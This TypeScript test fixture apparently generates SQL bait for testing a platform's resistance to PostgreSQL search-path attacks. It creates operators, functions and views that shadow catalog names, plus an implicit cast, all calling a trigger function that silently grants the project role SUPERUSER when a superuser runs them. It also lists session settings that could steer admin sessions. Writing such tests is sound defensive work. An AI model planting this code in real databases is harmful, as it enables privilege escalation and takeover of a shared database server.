/**
 * What a project's role can plant for a session of the platform's admin to run: operators,
 * functions, views and a cast named as the catalog's, in every schema it may create in, each
 * calling `fire()`, which records who ran it and, when that is a superuser, makes the project's
 * role one. A search-path attack's bait (tests/api/admin-search-path.test.ts).
 */

/** The schemas the bait goes in: `public` and one of the project's own. */
export const PLANTED_SCHEMAS = ['public', 'app'] as const

/** Operators for these argument types, as the platform's admin SQL compares names, text and oids. */
const OPERAND_TYPES: [string, string][] = [
  ['text', 'text'],
  ['name', 'name'],
  ['name', 'text'],
  ['text', 'name'],
  ['oid', 'oid'],
  ['integer', 'integer'],
  ['bigint', 'bigint'],
  ['boolean', 'boolean'],
  ['"char"', '"char"'],
]
const OPERATORS: [string, string, string][] = [
  ['=', 'eq', '='],
  ['<>', 'ne', '<>'],
  ['~~', 'like', 'LIKE'],
]

/** Functions the admin's SQL calls, each shadowed by one of the same signature that fires. */
const FUNCTIONS: { name: string; args: string[]; returns: string }[] = [
  { name: 'version', args: [], returns: 'text' },
  { name: 'current_setting', args: ['text'], returns: 'text' },
  { name: 'current_setting', args: ['text', 'boolean'], returns: 'text' },
  { name: 'current_database', args: [], returns: 'name' },
  { name: 'pg_get_userbyid', args: ['oid'], returns: 'name' },
  { name: 'quote_ident', args: ['text'], returns: 'text' },
  { name: 'quote_literal', args: ['text'], returns: 'text' },
  { name: 'hashtext', args: ['text'], returns: 'integer' },
  { name: 'lower', args: ['text'], returns: 'text' },
  { name: 'upper', args: ['text'], returns: 'text' },
  { name: 'split_part', args: ['text', 'text', 'integer'], returns: 'text' },
  { name: 'starts_with', args: ['text', 'text'], returns: 'boolean' },
  { name: 'strpos', args: ['text', 'text'], returns: 'integer' },
  { name: 'substr', args: ['text', 'integer'], returns: 'text' },
  { name: 'length', args: ['text'], returns: 'integer' },
  { name: 'obj_description', args: ['oid', 'name'], returns: 'text' },
  { name: 'pg_database_size', args: ['name'], returns: 'bigint' },
  { name: 'pg_backend_pid', args: [], returns: 'integer' },
  { name: 'pg_terminate_backend', args: ['integer'], returns: 'boolean' },
  { name: 'pg_try_advisory_lock', args: ['bigint'], returns: 'boolean' },
  { name: 'pg_advisory_lock', args: ['bigint'], returns: 'void' },
  { name: 'pg_has_role', args: ['name', 'oid', 'text'], returns: 'boolean' },
  { name: 'pg_has_role', args: ['oid', 'oid', 'text'], returns: 'boolean' },
  { name: 'has_database_privilege', args: ['oid', 'oid', 'text'], returns: 'boolean' },
  { name: 'set_config', args: ['text', 'text', 'boolean'], returns: 'text' },
  { name: 'now', args: [], returns: 'timestamp with time zone' },
  { name: 'coalesce_text', args: ['text'], returns: 'text' },
]

/** Catalogs the admin's SQL reads, each shadowed by a view of the same name that fires. */
const CATALOGS = [
  'pg_namespace', 'pg_roles', 'pg_database', 'pg_class', 'pg_extension', 'pg_proc', 'pg_attribute', 'pg_stat_activity',
  'pg_settings', 'pg_db_role_setting', 'pg_auth_members', 'pg_default_acl', 'pg_available_extensions',
  'pg_available_extension_versions', 'pg_policy', 'pg_depend', 'pg_shdepend', 'pg_type', 'pg_largeobject_metadata',
  'pg_trigger', 'pg_language', 'pg_foreign_server', 'pg_foreign_data_wrapper', 'pg_user',
]
/** Columns a view cannot hold (pseudo-types): left out of the catalog's stand-in. */
const LEFT_OUT: Record<string, string[]> = { pg_attribute: ['attmissingval'] }

const ident = (name: string) => (/^[a-z_][a-z0-9_]*$/.test(name) ? name : `"${name.replace(/"/g, '""')}"`)

/**
 * The SQL that plants it all, run as the project's role `role` in its database. `fire(what)`
 * records (`public.fired`) and, as a superuser, runs `ALTER ROLE <role> SUPERUSER`; each part
 * swallows its own errors so that the bait never fails what calls it.
 */
export function plantingSql(role: string): string {
  const out: string[] = [
    `create schema if not exists app`,
    `create table if not exists public.fired (who text not null, what text not null, at timestamptz not null default pg_catalog.now())`,
    `grant insert, select on public.fired to public`,
    `create or replace function public.fire(what text) returns boolean language plpgsql set search_path = pg_catalog as $fire$
     begin
       begin
         insert into public.fired (who, what) values (current_user, what);
       exception when others then null;
       end;
       begin
         if (select rolsuper from pg_catalog.pg_roles where rolname = current_user) then
           execute 'alter role ' || pg_catalog.quote_ident(${`'${role}'`}) || ' superuser';
         end if;
       exception when others then null;
       end;
       return true;
     end $fire$`,
    `grant execute on function public.fire(text) to public`,
  ]
  for (const schema of PLANTED_SCHEMAS) {
    for (const [left, right] of OPERAND_TYPES)
      for (const [op, word, sql] of OPERATORS) {
        const fn = `${schema}.planted_${word}_${left.replace(/\W/g, '')}_${right.replace(/\W/g, '')}`
        out.push(
          `create or replace function ${fn}(a ${left}, b ${right}) returns boolean language plpgsql set search_path = pg_catalog as $op$
           begin perform public.fire(${`'${schema}.${op}(${left},${right})'`}); return a::text ${sql} b::text; end $op$`,
          `do $op$ begin create operator ${schema}.${op} (leftarg = ${left}, rightarg = ${right}, function = ${fn}); exception when duplicate_function then null; end $op$`
        )
      }
    for (const { name, args, returns } of FUNCTIONS) {
      const params = args.map((type, i) => `a${i} ${type}`).join(', ')
      const call = name === 'coalesce_text' ? 'a0' : `pg_catalog.${name}(${args.map((_, i) => `a${i}`).join(', ')})`
      const body = returns === 'void' ? `perform ${call}; return;` : `return ${call};`
      out.push(
        `create or replace function ${schema}.${ident(name)}(${params}) returns ${returns} language plpgsql set search_path = pg_catalog as $fn$
         begin perform public.fire(${`'${schema}.${name}(${args.join(',')})'`}); ${body} end $fn$`
      )
    }
    for (const catalog of CATALOGS) {
      const columns = LEFT_OUT[catalog]
        ? `(select pg_catalog.string_agg(pg_catalog.quote_ident(attname), ', ' order by attnum) from pg_catalog.pg_attribute
            where attrelid = 'pg_catalog.${catalog}'::pg_catalog.regclass and attnum > 0 and attname <> all (array[${LEFT_OUT[catalog].map((c) => `'${c}'`).join(', ')}]))`
        : `'*'`
      out.push(
        `do $v$ begin execute 'create or replace view ${schema}.${catalog} as select ' || ${columns} || ' from pg_catalog.${catalog} where public.fire(''${schema}.${catalog} (view)'')'; end $v$`
      )
    }
  }
  // A cast the project may make (it owns the type), implicit, as bait for anything that meets it.
  out.push(
    `do $t$ begin create type public.planted as (x integer); exception when duplicate_object then null; end $t$`,
    `create or replace function public.planted_text(p public.planted) returns text language plpgsql set search_path = pg_catalog as $c$
     begin perform public.fire('cast planted as text'); return p.x::text; end $c$`,
    `do $c$ begin create cast (public.planted as text) with function public.planted_text(public.planted) as implicit; exception when duplicate_object then null; end $c$`
  )
  return out.join(';\n')
}

/**
 * Session defaults that would steer sessions in a database: what its owner could set with ALTER
 * DATABASE (the platform keeps each project's database since, so a test sets them as the server's
 * superuser, as a database of an earlier version may still hold them).
 */
export const STEERING_SETTINGS = {
  search_path: 'app, public, pg_catalog',
  role: (projectRole: string) => projectRole,
  local_preload_libraries: 'planted_library',
  default_transaction_read_only: 'on',
  statement_timeout: '1',
  lock_timeout: '1',
  idle_session_timeout: '1',
  idle_in_transaction_session_timeout: '1',
  default_transaction_isolation: 'serializable',
}
